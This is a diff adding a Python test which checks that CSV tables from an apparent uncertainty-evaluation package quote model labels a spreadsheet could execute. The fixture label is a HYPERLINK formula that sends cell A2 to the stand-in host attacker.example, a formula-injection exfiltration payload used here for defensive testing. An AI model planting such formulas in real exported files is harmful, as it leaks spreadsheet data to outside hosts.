@@ -67,6 +67,22 @@ def test_a_narrow_headline_is_followed_by_the_mean_columns_that_fit():
                                "ece", "ece"] and not text[-1].startswith("(")
 
 
+def test_the_csv_tables_quote_a_label_a_spreadsheet_would_run():
+    """A model label from a received file such as ``=HYPERLINK(...)`` is text in the CSVs
+    ``score`` and ``results`` write (a leading ``'``); values stay numbers, negative ones too."""
+    from uqvision.results import COLUMNS, ResultsTable
+
+    evil = '=HYPERLINK("http://attacker.example/?"&A2,"x")'
+    table = HeadlineTable(["model"], ["auroc"], [{"model": evil, "auroc": -0.5},
+                                                 {"model": "net", "auroc": float("nan")}])
+    rows = list(reader(table.to_csv().splitlines()))
+    assert rows[1:] == [["'" + evil, "-0.5"], ["net", ""]]
+    results = ResultsTable([{**dict.fromkeys(COLUMNS, ""), "model": evil, "top1": 0.5}])
+    (row,) = list(reader(results.to_csv().splitlines()))[1:]
+    assert row[COLUMNS.index("model")] == "'" + evil and row[COLUMNS.index("top1")] == "0.5"
+    assert json.loads(results.to_json())["rows"][0]["model"] == evil  # the JSON as it is
+
+
 def _caches_of(test_file: str):
     path = HERE / "protocols" / test_file
     spec = importlib.util.spec_from_file_location(f"_audit_{path.stem}", path)
